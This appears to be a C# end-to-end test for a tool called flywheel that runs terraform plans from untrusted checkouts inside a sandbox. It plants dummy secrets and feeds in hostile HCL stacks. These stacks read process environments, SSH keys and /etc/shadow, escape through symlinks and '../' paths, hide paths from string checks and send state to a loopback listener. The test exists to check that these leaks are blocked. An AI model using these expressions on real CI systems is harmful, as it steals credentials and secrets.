using System.Net;
using System.Net.Sockets;
using System.Text;
using Flywheel.Testing;

namespace Flywheel.EndToEnd.Untrusted;

/// <summary>A machine with secrets wherever a CI runner has some, and a checkout whose stacks are all after them. Two runs of it: one by flywheel, one by bare tofu.</summary>
public sealed class AttackedMachine : IAsyncLifetime
{
    private readonly Checkout _checkout = new();
    private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
    private Task? _accepting;

    internal IReadOnlyDictionary<string, PlanAttack> Attacks { get; private set; } = new Dictionary<string, PlanAttack>();

    /// <summary>How flywheel ended.</summary>
    internal ProgramExit Run { get; private set; } = null!;

    /// <summary>Connections to a port of the machine's loopback address.</summary>
    internal int Connections { get; private set; }

    /// <summary>Every place that flywheel leaves something in, by name.</summary>
    internal IReadOnlyDictionary<string, byte[]> Left { get; private set; } = new Dictionary<string, byte[]>();

    public async ValueTask InitializeAsync()
    {
        RequiredTool.Find("terraform");
        RequiredTool.Find("bwrap");
        _listener.Start();
        _accepting = CountAsync();
        Plant();
        Attacks = All().ToDictionary(attack => attack.Name, StringComparer.Ordinal);
        _checkout.Sandbox.WithOrganization();
        foreach (var attack in Attacks.Values)
        {
            _checkout.Sandbox.WithStack(attack.Name, hcl: attack.Hcl);
        }

        _checkout.Sandbox.WithFile("tofu/stacks/override/backend_override.tf", $"terraform {{\n  backend \"http\" {{\n    address = \"{Listener}\"\n  }}\n}}\n");
        _checkout.Sandbox.WithLink("tofu/stacks/link/id_rsa", Path.Combine(HomeFolder, ".ssh", "id_rsa"));
        _checkout.Sandbox.WithLink("tofu/stacks/link/shadow", "/etc/shadow");
        _checkout.Sandbox.Commit();
        // Left in the checkout by an earlier job; no part of the change.
        _checkout.Sandbox.WithFile("private/notes.txt", "planted-checkout-1f2e\n").WithFile("tofu/stacks/left-file/left.auto.tfvars", "loot = \"planted-tfvars-9d3c\"\n");

        var reports = _checkout.Besides("reports");
        Run = await _checkout.RunJsonAsync("plan", "--untrusted", "--verbose", "--reports", reports);
        var human = await _checkout.RunAsync("runs", "show", Run.RunId);
        var logs = await _checkout.RunAsync("runs", "logs", Run.RunId);
        Left = new Dictionary<string, byte[]>(
        [
            new("stdout", Bytes(Run.Output)), new("stderr", Bytes(Run.Error)), new("runs show", Bytes(human.Output)), new("runs logs", Bytes(logs.Output)),
            .. new[] { _checkout.Home, reports }.SelectMany(folder => Directory.GetFiles(folder, "*", SearchOption.AllDirectories))
                .Where(file => !file.StartsWith(Path.Combine(_checkout.Home, "state"), StringComparison.Ordinal))
                .Select(file => KeyValuePair.Create(file, File.ReadAllBytes(file))),
        ]);
        ConnectionsOfFlywheel = Connections;
    }

    internal int ConnectionsOfFlywheel { get; private set; }

    /// <summary>Addresses that the stack's plan would make, as flywheel keeps them; empty when there is no plan.</summary>
    internal string SummaryOf(string stack)
    {
        var job = Run.Job($"plan/{stack}");
        return job.GetProperty("artifacts").EnumerateArray().Any()
            ? File.ReadAllText(_checkout.ArtifactFile(Run.ArtifactOf($"plan/{stack}", "summary.json")))
            : "";
    }

    /// <summary>What the same stack shows when it is planned where it lies, with the environment of the machine.</summary>
    internal async Task<string> PlanBareAsync(string stack)
    {
        var folder = Path.Combine(_checkout.Root, "tofu", "stacks", stack);
        var environment = new Dictionary<string, string>(_checkout.Environment) { ["TF_DATA_DIR"] = _checkout.Besides($"data-{stack}") };
        if (stack != "variable")
        {
            // Only this one declares what they set; the others would fail for it.
            environment.Remove("TF_CLI_ARGS_plan");
        }

        // The program in between is the parent whose environment is read.
        using var program = FlywheelProgram.Start(
            "/bin/sh", ["-c", "terraform init -no-color -input=false; terraform plan -no-color -input=false -lock=false; true"], folder, environment);
        program.Input.Close();
        var exit = await program.WaitAsync();
        return exit.Output + exit.Error;
    }

    public async ValueTask DisposeAsync()
    {
        _listener.Dispose();
        await (_accepting ?? Task.CompletedTask);
        _checkout.Dispose();
    }

    private string HomeFolder => _checkout.Besides("home");

    private string Listener => $"http://127.0.0.1:{((IPEndPoint)_listener.LocalEndpoint).Port}/state";

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    private void Plant()
    {
        foreach (var (name, value) in new[]
        {
            ("AWS_SECRET_ACCESS_KEY", "planted-environment-4b7d"), ("GITLAB_TOKEN", "planted-token-a1c0"), ("TF_VAR_loot", "planted-variable-77aa"),
            ("TF_CLI_ARGS_plan", "-var=loot=planted-arguments-5e5e"), ("TF_HTTP_PASSWORD", "planted-backend-0c0c"),
        })
        {
            _checkout.Environment[name] = value;
        }

        _checkout.Environment["HOME"] = HomeFolder;
        Write(Path.Combine(HomeFolder, ".ssh", "id_rsa"), "planted-key-d00d\n");
        Write(Path.Combine(HomeFolder, "planted-name-b0b0"), "");
        Write(Path.Combine(_checkout.Environment["XDG_STATE_HOME"], "flywheel", "key"), "planted-plankey-e1e1\n");
        Write(Path.Combine(_checkout.Home, "state", "other-lab.tfstate"), """
            {"version":4,"terraform_version":"1.11.4","serial":1,"lineage":"x","outputs":{"loot":{"value":"planted-state-c4c4","type":"string"}},"resources":[]}
            """);
    }

    private static void Write(string path, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, text);
    }

    // Nobody who looks for paths in the text sees it: what the check of declared reads finds is advice, and no wall.
    private static string Hidden(string path) => $"join(\"\", [\"{path[..1]}\", \"{path[1..]}\"])";

    private IEnumerable<PlanAttack> All()
    {
        var up = string.Concat(Enumerable.Repeat("../", 20));
        const string Variable = "variable \"loot\" {\n  default = \"\"\n}\n";
        yield return PlanAttack.On("own-environment", $"base64decode(filebase64({Hidden("/proc/self/environ")}))");
        yield return PlanAttack.On("first-environment", $"base64decode(filebase64({Hidden("/proc/1/environ")}))");
        yield return PlanAttack.On(
            "parent-environment", $"base64decode(filebase64(join(\"\", [\"/proc/\", regex(\"PPid:\\\\s+([0-9]+)\", file({Hidden("/proc/self/status")}))[0], \"/environ\"])))");
        yield return PlanAttack.On("home", $"file(pathexpand({Hidden("~/.ssh/id_rsa")}))");
        yield return PlanAttack.On("home-by-path", $"file({Hidden($"{HomeFolder}/.ssh/id_rsa")})");
        yield return PlanAttack.On("passwd", $"file({Hidden("/etc/passwd")})");
        yield return PlanAttack.On("shadow", $"file({Hidden("/etc/shadow")})");
        yield return PlanAttack.On("names", $"join(\" \", fileset({Hidden($"/{HomeFolder.Split('/')[1]}")}, \"**/planted-name-*\"))");
        yield return PlanAttack.On("upwards", $"file({Hidden($"{up}{HomeFolder[1..]}/.ssh/id_rsa")})");
        yield return PlanAttack.On("checkout", $"templatefile({Hidden("../../../private/notes.txt")}, {{}})");
        yield return PlanAttack.On("plan-key", $"file({Hidden($"{_checkout.Environment["XDG_STATE_HOME"]}/flywheel/key")})");
        yield return PlanAttack.On("state-file", $"file({Hidden($"{_checkout.Home}/state/other-lab.tfstate")})");
        yield return PlanAttack.On("link", $"join(\" \", [try(file({Hidden("./id_rsa")}), \"\"), try(file({Hidden("./shadow")}), \"\")])");
        yield return PlanAttack.On("left-file", "var.loot", Variable);
        yield return PlanAttack.On("variable", "var.loot", Variable);
        yield return PlanAttack.On(
            "remote-state", "data.terraform_remote_state.other.outputs.loot",
            $"data \"terraform_remote_state\" \"other\" {{\n  backend = \"local\"\n  config = {{\n    path = \"{_checkout.Home}/state/other-lab.tfstate\"\n  }}\n}}\n");
        yield return PlanAttack.On(
            "network", "data.terraform_remote_state.other.outputs.loot",
            $"data \"terraform_remote_state\" \"other\" {{\n  backend = \"http\"\n  config = {{\n    address = \"{Listener}\"\n  }}\n}}\n");
        yield return PlanAttack.On("backend", "\"\"", $"terraform {{\n  backend \"http\" {{\n    address = \"{Listener}\"\n  }}\n}}\n");
        yield return PlanAttack.On("override", "\"\"", "terraform {\n  backend \"local\" {}\n}\n");
    }

    private async Task CountAsync()
    {
        try
        {
            while (true)
            {
                using var client = await _listener.AcceptTcpClientAsync();
                Connections++;
            }
        }
        catch (SocketException)
        {
            // stopped
        }
    }
}
